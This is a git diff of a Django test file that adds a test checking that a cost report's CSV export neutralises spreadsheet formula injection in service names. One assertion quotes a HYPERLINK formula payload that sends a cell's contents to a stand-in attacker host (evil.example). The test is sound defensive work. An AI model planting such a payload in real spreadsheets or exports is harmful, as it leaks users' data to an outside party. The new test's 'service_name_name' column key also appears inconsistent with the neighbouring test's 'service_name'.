@@ -24,7 +24,7 @@ from environments.models import Environment, EnvironmentTemplate
 from portal.demo import Persona
 from regions.models import Cluster
 from tests.costs.cost_world import PLATFORM, STUDENTS, load_rows, november_bill, recent_bill, row
-from tests.helpers import queries_for
+from tests.helpers import ONE_LINE_FORMULA_PAYLOADS, formulas_in, queries_for
 
 pytestmark = pytest.mark.django_db
 
@@ -290,6 +290,18 @@ def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(manager
     lines = csv_rows(manager.get(EXPORT, {**NOVEMBER, "by": "service_name"}))
 
     assert lines[0]["service_name"].startswith("'=")
+
+
+@pytest.mark.parametrize("rows", ["totals", "series", "movers"])
+def test_no_exported_cell_is_a_formula_to_a_spreadsheet_of_any_locale(manager: Client, rows: str) -> None:
+    load_rows([row(date(2026, 11, 1), "1.00", ServiceName=name) for name in ONE_LINE_FORMULA_PAYLOADS])
+
+    response = manager.get(EXPORT, {**NOVEMBER, "by": "service_name", "rows": rows})
+
+    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    assert formulas_in(body) == []
+    names = {line["service_name_name"] for line in csv.DictReader(io.StringIO(body, newline=""))}
+    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in names
 
 
 # --- an environment's cost ------------------------------------------------------------------------
